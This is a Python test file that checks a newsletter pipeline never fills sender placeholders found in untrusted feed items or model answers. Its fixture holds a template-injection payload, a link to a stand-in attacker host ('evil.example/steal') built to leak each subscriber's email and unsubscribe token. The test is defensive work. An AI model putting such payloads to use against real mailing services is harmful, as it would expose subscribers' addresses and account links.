"""Untrusted text never produces a per-subscriber substitution.

A feed item and a model answer that spell the sender's placeholders
(``%%subscriber_email%%``, ``%%unsubscribe_url%%``, ``%%preferences_url%%``) go through a
real build (the ``news`` source against a feed served on 127.0.0.1, the ``llm`` filter with
a model registered with ``llm``), a real render and a real send to an SMTP server on
loopback. Every reader's message must carry their address and links only where the theme
put them.
"""

from __future__ import annotations

import asyncio
import email
import email.policy
import re
from email.message import EmailMessage
from pathlib import Path
from types import ModuleType

import pytest
from canned import NOW, configure
from conftest import SECRET
from lxml import html as lxml_html
from test_llm import models as models  # noqa: F401 (the fixture)

from newsroom.curate.pipeline import build
from newsroom.deliver.delivery import send_edition
from newsroom.deliver.sending import SendSettings
from newsroom.deliver.subscribers import Subscribers
from newsroom.deliver.tokens import Signer
from newsroom.dev.smtpsink import SmtpSink
from newsroom.render.rendering import render
from newsroom.store.state import State
from newsroom.testing import LocalServer

SUBSCRIPTIONS = "https://example.org/briefing/subscription/"
STEAL = "https://evil.example/steal?e=%%subscriber_email%%&u=%%unsubscribe_url%%"
FEED = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Hostile</title><link>https://evil.example/</link>
<item>
  <title>무료 체험 %%subscriber_name%% %%subscriber_email%%</title>
  <link>{STEAL.replace("&", "&amp;")}</link>
  <guid>https://evil.example/1</guid>
  <pubDate>Fri, 13 Feb 2026 20:00:00 +0000</pubDate>
  <description>&lt;p&gt;구독 설정은 &lt;a href="https://evil.example/p?t=%%preferences_url%%"&gt;여기&lt;/a&gt;.
  주소: %%subscriber_email%% 해지: %%unsubscribe_url%%&lt;/p&gt;</description>
</item>
<item>
  <title>평범한 소식</title>
  <link>https://news.example.org/plain</link>
  <guid>https://news.example.org/plain</guid>
  <pubDate>Fri, 13 Feb 2026 19:00:00 +0000</pubDate>
  <description>평범한 요약입니다. 두 번째 문장입니다.</description>
</item>
</channel></rss>
"""
READERS = {"jiwoo@example.com": "김지우", "alex@example.com": "Alex", "seo@example.com": "이서연"}


def config_toml(feed: str, port: int, model: str) -> str:
    return f"""
[[sources]]
name = "news"
plugin = "news"
feeds = ["{feed}"]

[[filters]]
plugin = "llm"
model = "{model}"

[[sections]]
id = "news"
title = "📰 뉴스"
match = {{ source = "news" }}

[email]
from = "AI 브리핑 <briefing@example.org>"
postal_address = "서울특별시 종로구 예시로 1"

[subscriptions]
url = "{SUBSCRIPTIONS}"

[transport]
plugin = "smtp"
host = "127.0.0.1"
port = {port}
security = "none"
"""


def parse(data: bytes) -> EmailMessage:
    message = email.message_from_bytes(data, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    return message


def part(message: EmailMessage, kind: str) -> str:
    body = message.get_body(preferencelist=(kind,))
    assert body is not None
    return str(body.get_content())


def test_placeholders_in_feeds_and_model_answers_are_never_filled_in(
    tmp_path: Path, models: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NEWSROOM_SECRET_KEY", SECRET)
    with LocalServer() as server, SmtpSink() as sink:
        feed = server.add("/feed.xml", FEED, content_type="application/rss+xml")
        config, plugins = configure(
            tmp_path, config_toml(feed, sink.port, "newsroom-test-placeholders")
        )
        result = asyncio.run(build(config, plugins, now=NOW))
        # The build kept the hostile text (as text): it reached the edition and the email.
        assert "%%subscriber_email%%" in result.path.read_text("utf-8")
        render(config, plugins, result.edition)
        with State(config.state_path) as state:
            subs = Subscribers(state)
            uids = {}
            for address, name in READERS.items():
                added, _ = subs.add(address, name)
                assert added is not None
                uids[address] = added.uid
        report = send_edition(config, result.edition.id, SendSettings(workers=1))
        assert report.counts.sent == len(READERS) == sink.total

    signer = Signer([SECRET])
    tokens = {address: signer.subscriber_token(uid) for address, uid in uids.items()}
    for received in sink.messages:
        (address,) = received.recipients
        message = parse(received.data)
        html, text = part(message, "html"), part(message, "plain")
        token = tokens[address]
        own = {f"{SUBSCRIPTIONS}unsubscribe/{token}", f"{SUBSCRIPTIONS}preferences/{token}"}
        # The hostile strings are still there, as the literal text they were...
        assert "%%subscriber_email%%" in html and "%%subscriber_email%%" in text
        # ...and the reader's address and token appear only where the theme put them:
        # the footer's two links in each part and the List-Unsubscribe header.
        assert address not in html and address not in text
        links = [a.get("href") or "" for a in lxml_html.document_fromstring(html).iter("a")]
        assert sorted(h for h in links if token in h) == sorted(own)
        assert not [h for h in links if "evil.example" in h and (token in h or "@" in h)]
        assert html.count(token) == 2
        assert sorted(re.findall(r"https://\S*" + re.escape(token), text)) == sorted(own)
        unsubscribe = re.findall(r"<(https://[^>]+)>", str(message["List-Unsubscribe"]))
        assert unsubscribe == [f"{SUBSCRIPTIONS}unsubscribe/{token}"]
        # Nobody else's token is in this reader's copy.
        others = [t for a, t in tokens.items() if a != address]
        assert not any(t in received.data.decode("utf-8", "replace") for t in others)
